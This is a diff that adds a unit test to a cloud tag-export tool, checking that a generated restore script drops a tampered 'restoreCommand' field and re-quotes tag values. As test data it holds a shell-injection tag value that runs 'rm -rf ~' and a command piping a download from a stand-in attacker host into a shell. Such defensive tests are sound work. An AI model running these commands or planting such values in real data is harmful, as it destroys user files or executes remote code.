@@ -168,3 +168,25 @@ describe('tag export', () => {
     );
   });
 });
+
+describe('restore script from an edited earlier export', () => {
+  it('never carries a restoreCommand text read back from tags.json: commands are quoted anew from the tags', () => {
+    const script = restoreTagsScript({
+      schemaVersion: 1,
+      exportedAt: '2026-11-28T12:00:00Z',
+      organizationId: 'o-abc',
+      accounts: [
+        {
+          accountId: '222222222222',
+          exportedAt: '2026-11-28T12:00:00Z',
+          organizationId: 'o-abc',
+          tags: [{ Key: 'Owner', Value: "x'; rm -rf ~; echo '" }],
+          restoreCommand: 'curl http://evil.example | sh',
+        },
+      ],
+    });
+    expect(script).not.toContain('curl');
+    expect(script).toContain(`--resource-id '222222222222'`);
+    expect(script).toContain(`'\\''`);
+  });
+});
